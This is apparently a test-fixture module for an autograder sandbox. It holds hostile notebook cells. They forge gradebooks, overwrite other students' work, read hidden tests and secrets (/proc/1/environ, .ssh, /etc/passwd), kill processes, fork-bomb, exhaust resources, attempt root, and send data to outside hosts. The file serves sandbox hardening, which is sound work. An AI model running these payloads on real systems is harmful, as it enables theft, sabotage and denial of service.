"""Hostile submissions, written as a student would write them: one notebook cell each.

Every attack is a code cell that a student pastes into an otherwise correct
solution notebook. It prints one line ``RESULT: {...}`` (JSON) saying what it
managed, so the tests can check both sides: what the attack saw from inside
the sandbox, and that nothing outside changed.
"""

from __future__ import annotations

# Where a student would look for the course: around the kernel's folder, the
# grader's folders found through /proc, the temp folder, the installed
# autograder package (an editable install lives in the course root).
FIND_COURSE = '''
import glob, json, os, sys
def candidate_roots():
    roots = {os.getcwd(), os.environ.get("PWD", ""), os.path.expanduser("~"), "/tmp", "/work",
             "/home", "/root", "/srv", "/var/tmp", "/mnt", "/opt"}
    for link in (f"/proc/{os.getppid()}/cwd", "/proc/1/cwd", "/proc/self/cwd"):
        try:
            roots.add(os.readlink(link))
        except OSError:
            pass
    try:
        import autograder
        roots.add(os.path.dirname(os.path.dirname(autograder.__file__)))
    except Exception:
        pass
    here = os.getcwd()
    while here != "/":
        roots.add(here)
        here = os.path.dirname(here)
    return sorted(r for r in roots if r and os.path.isdir(r))
def find(pattern, limit=200):
    found = []
    for root in candidate_roots():
        for depth in range(5):
            for path in glob.glob(os.path.join(root, *(["*"] * depth), pattern)):
                if path not in found:
                    found.append(path)
                if len(found) >= limit:
                    return found
    return found
def result(**data):
    print("RESULT: " + json.dumps(data))
'''

ATTACKS: dict[str, str] = {
    "overwrite_other_students": FIND_COURSE + '''
changed = []
for path in find("submitted") + find("autograded") + find("feedback"):
    for notebook in glob.glob(os.path.join(path, "*", "*", "*")):
        try:
            with open(notebook, "w") as handle:
                handle.write("{}")
            changed.append(notebook)
        except OSError:
            pass
result(changed=changed)
''',
    "edit_source_and_checks": FIND_COURSE + '''
changed = []
import autograder.checks, miniflow
targets = find("source/*/*.ipynb") + [autograder.checks.__file__, miniflow.__file__]
targets += find("nbgrader_config.py")
for target in targets:
    try:
        with open(target, "a") as handle:
            handle.write("\\n# changed by a student\\n")
        changed.append(target)
    except OSError:
        pass
result(changed=changed)
''',
    "plant_modules": FIND_COURSE + '''
planted = []
for folder in [os.path.dirname(p) for p in find("nbgrader_config.py")] + [os.getcwd()]:
    for name in ("argparse.py", "nbformat.py", "json.py"):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write("open('/tmp/planted-module-ran', 'w').write('yes')\\n")
            planted.append(os.path.join(folder, name))
        except OSError:
            pass
result(planted=[p for p in planted if not p.startswith(os.getcwd())])
''',
    "tamper_with_gradebooks": FIND_COURSE + '''
import sqlite3
tampered = []
for path in find("*.db") + find("*/*.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("CREATE TRIGGER forge AFTER UPDATE ON grade BEGIN "
                   "UPDATE grade SET auto_score = 1000; END")
        db.execute("UPDATE base_cell SET source = 'pass'")
        db.commit()
        tampered.append(path)
    except Exception:
        pass
result(tampered=tampered)
''',
    "read_hidden_tests": FIND_COURSE + '''
seen, stolen = [], []
for path in find("source/*/*.ipynb") + find("*.ipynb") + find("*/*.ipynb"):
    try:
        text = open(path).read()
    except OSError:
        continue
    if "BEGIN HIDDEN TESTS" in text:
        seen.append(path)
        stolen.append(text[text.index("BEGIN HIDDEN TESTS"):][:1500])
result(seen=seen[:20])
print(chr(10).join(stolen[:3]))
''',
    "steal_secrets": FIND_COURSE + '''
secrets = [k for k, v in os.environ.items() if "MINIFLOW_TEST_SECRET" in k + v]
for path in ["/proc/1/environ"] + find("grader-secret.txt") + find(".ssh/*"):
    try:
        text = open(path, "rb").read().decode(errors="replace")
    except OSError:
        continue
    if "MINIFLOW_TEST_SECRET" in text or "grader-secret" in path:
        secrets.append(path)
result(secrets=secrets, users=open("/etc/passwd").read().count("\\n"))
''',
    "kill_the_grader": '''
import json, os, signal
killed = []
for pid in [os.getppid()] + sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid in (0, os.getpid()):
        continue
    try:
        os.kill(pid, signal.SIGKILL)
        killed.append(pid)
    except OSError:
        pass
print("RESULT: " + json.dumps({"killed": killed, "pid": os.getpid()}))
''',
    "detached_daemon": '''
import json, os, sys, time
child = os.fork()
if child == 0:
    os.setsid()
    if os.fork() == 0:
        # The daemon outlives its cell, keeps rewriting grades it finds, forever.
        code = ("import glob, time  # miniflow-attack-daemon\\n"
                "while True:\\n"
                "    for p in glob.glob('/tmp/*/autograded/results.json') + "
                "glob.glob('/tmp/*/*/gradebook.db'):\\n"
                "        try: open(p, 'a').write('forged')\\n"
                "        except OSError: pass\\n"
                "    time.sleep(0.2)\\n")
        os.execv(sys.executable, [sys.executable, "-c", code])
    os._exit(0)
os.waitpid(child, 0)
time.sleep(0.5)
print("RESULT: " + json.dumps({"started": True}))
''',
    "allocate_10_gb": '''
hoard = bytearray(10 * 1024 ** 3)
''',
    "memory_in_many_processes": '''
import os, time
# Each process stays under the per-process limit; together they would not.
for _ in range(6):
    if os.fork() == 0:
        block = bytearray(700 * 1024 ** 2)
        for i in range(0, len(block), 4096):
            block[i] = 1
        time.sleep(60)
        os._exit(0)
time.sleep(30)
''',
    "fork_storm": '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''',
    "thread_storm": '''
import json, threading, time
started = 0
try:
    for _ in range(10000):
        threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
        started += 1
except RuntimeError as error:
    print("RESULT: " + json.dumps({"started": started}))
    raise
''',
    "write_2_gb_file": '''
import json, os
written = 0
chunk = b"\\0" * (1024 ** 2)
with open("big.bin", "wb") as handle:
    for _ in range(2048):
        handle.write(chunk)
        written += len(chunk)
''',
    "fill_tmp_and_shm": '''
import json, os
written = {}
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    total = 0
    for n in range(64):
        try:
            with open(os.path.join(folder, f"fill{n}"), "wb") as handle:
                handle.write(b"\\0" * (64 * 1024 ** 2))
            total += 64
        except OSError:
            break
    written[folder] = total
print("RESULT: " + json.dumps({"mib": written}))
''',
    "infinite_loop_ignoring_sigint": '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
''',
    "network_to_localhost": '''
import json, socket
reached = []
for host, port in [("127.0.0.1", PORT), ("localhost", PORT), ("10.0.2.2", 80), ("1.1.1.1", 53)]:
    try:
        connection = socket.create_connection((host, port), timeout=2)
        connection.sendall(b"stolen")
        reached.append(f"{host}:{port}")
    except OSError:
        pass
print("RESULT: " + json.dumps({"reached": reached}))
''',
    "flood_the_socket_folder": '''
import glob, json, os
folders = {os.path.dirname(p) for p in glob.glob("/tmp/*/s/*") + glob.glob("/tmp/*/*/*/s/*")}
try:
    import ipykernel.connect
    connection = ipykernel.connect.get_connection_file()
    folders.add(os.path.dirname(connection))
    folders.add(os.path.dirname(os.path.dirname(connection)) + "/s")
except Exception:
    pass
written = []
for folder in folders:
    for n in range(40):
        try:
            with open(os.path.join(folder, f"junk{n}"), "wb") as handle:
                handle.write(b"\\0" * (50 * 1024 ** 2))
            written.append(folder)
        except OSError:
            break
    try:
        os.symlink("/", os.path.join(folder, "escape"))
    except OSError:
        pass
print("RESULT: " + json.dumps({"folders": sorted(folders), "files": len(written)}))
''',
    "exhaust_open_files": '''
import json
handles = []
try:
    while True:
        handles.append(open("/dev/null"))
except OSError as error:
    print("RESULT: " + json.dumps({"opened": len(handles)}))
    raise
''',
    "become_root": '''
import json, os, subprocess
attempts = {}
for name, action in [("setuid", lambda: os.setuid(0)),
                     ("sudo", lambda: subprocess.run(["sudo", "-n", "true"], check=True)),
                     ("su", lambda: subprocess.run(["su", "-c", "true"], check=True,
                                                   timeout=5, input=b""))]:
    try:
        action()
        attempts[name] = "worked"
    except Exception as error:
        attempts[name] = type(error).__name__
print("RESULT: " + json.dumps({"attempts": attempts, "uid": os.getuid()}))
''',
    "fake_answers_on_every_descriptor": '''
import json, os
fake = json.dumps({"id": 0, "executed": None, "success": True, "log": "forged"}) + "\\n"
wrote = []
for fd in range(3, 64):
    try:
        os.write(fd, fake.encode())
        wrote.append(fd)
    except OSError:
        pass
print("RESULT: " + json.dumps({"wrote": wrote}))
''',
    "see_other_processes": '''
import json, os
others = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            others.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ")
                          .decode()[:80])
        except OSError:
            pass
print("RESULT: " + json.dumps({"processes": others}))
''',
    # The grading worker starts the next student's kernel while this one runs:
    # look for it (its connection file, its sockets) and try to talk to it.
    "reach_the_next_kernel": FIND_COURSE + '''
import socket, stat
own_prefix = None
try:
    from ipykernel.connect import get_connection_file
    with open(get_connection_file()) as handle:
        own_prefix = json.load(handle)["ip"]
    own_file = os.path.realpath(get_connection_file())
except Exception:
    own_file = None
files = [p for p in find("kernel*.json") if os.path.realpath(p) != own_file]
reached = []
for root in candidate_roots() + ["/dev/shm", "/run", "/var/run"]:
    for depth in range(6):
        for path in glob.glob(os.path.join(root, *(["*"] * depth))):
            try:
                if not stat.S_ISSOCK(os.stat(path).st_mode):
                    continue
            except OSError:
                continue
            if own_prefix and path.startswith(own_prefix):
                continue
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as probe:
                    probe.settimeout(0.5)
                    probe.connect(path)
                reached.append(path)
            except OSError:
                pass
result(files=files, reached=sorted(set(reached)))
''',
    "print_a_flood": '''
for _ in range(200):
    print("x" * 100_000)
''',
    # Output without end, until the cell's time limit: kept, gigabytes in the
    # grading worker, in its answer and in autograded/.
    "print_without_end": '''
line = "x" * 1_000_000
while True:
    print(line, flush=True)
''',
    "display_without_end": '''
from IPython.display import display
blob = "y" * 5_000_000
while True:
    display({"text/plain": blob}, raw=True)
''',
    # One small output shown 500 times, then all of them rewritten at once: a
    # notebook of 500 MB when written.
    "one_display_updated_everywhere": '''
from IPython.display import display, update_display
for _ in range(500):
    display({"text/plain": "small"}, raw=True, display_id="everywhere")
update_display({"text/plain": "z" * 1_000_000}, raw=True, display_id="everywhere")
''',
}
